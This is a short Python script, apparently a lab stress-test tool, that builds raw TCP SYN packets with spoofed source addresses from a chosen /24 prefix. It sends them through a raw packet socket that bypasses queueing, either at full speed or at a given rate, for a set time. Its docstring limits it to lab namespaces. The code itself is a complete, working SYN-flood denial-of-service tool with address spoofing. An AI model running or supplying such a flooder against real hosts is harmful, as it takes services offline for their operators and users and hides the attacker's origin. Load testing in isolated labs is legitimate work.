# SPDX-License-Identifier: GPL-2.0-only
"""A SYN flood from made-up sources: flood.py DEV NEXT-HOP-MAC SOURCE-PREFIX/24 DESTINATION PORT SECONDS [PPS].
As fast as it can, unless PPS is given. Prints how many packets it sent. For lab namespaces only: it goes round the sender's own routes and addresses."""
import random
import socket
import struct
import sys
import time

SOL_PACKET, PACKET_QDISC_BYPASS = 263, 20
FRAMES = 1024
BURST = 64


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn(dmac, smac, src, dst, sport, dport):
    tcp = struct.pack("!HHIIBBHHH", sport, dport, random.getrandbits(32), 0, 5 << 4, 2, 64240, 0, 0)
    pseudo = src + dst + struct.pack("!HH", socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, random.getrandbits(16), 0, 64, socket.IPPROTO_TCP, 0, src, dst)
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return dmac + smac + b"\x08\x00" + ip + tcp


def main(dev, next_hop, sources, dst, port, seconds, pps=0):
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sock.setsockopt(SOL_PACKET, PACKET_QDISC_BYPASS, 1)
    sock.bind((dev, 0))
    smac = sock.getsockname()[4]
    net = socket.inet_aton(sources.split("/")[0])[:3]
    frames = [syn(bytes.fromhex(next_hop.replace(":", "")), smac, net + bytes([1 + i % 254]), socket.inet_aton(dst),
                  random.randrange(1024, 65536), int(port)) for i in range(FRAMES)]
    send, sent, tried = sock.send, 0, 0
    begin = time.monotonic()
    end = begin + float(seconds)
    while time.monotonic() < end:
        for frame in frames[tried % FRAMES:][:BURST]:
            try:
                send(frame)
                sent += 1
            except OSError:  # no room at the other end of the cable
                pass
        tried += BURST
        if int(pps):
            time.sleep(max(0, begin + tried / int(pps) - time.monotonic()))
    print(sent, flush=True)


if __name__ == "__main__":
    main(*sys.argv[1:])
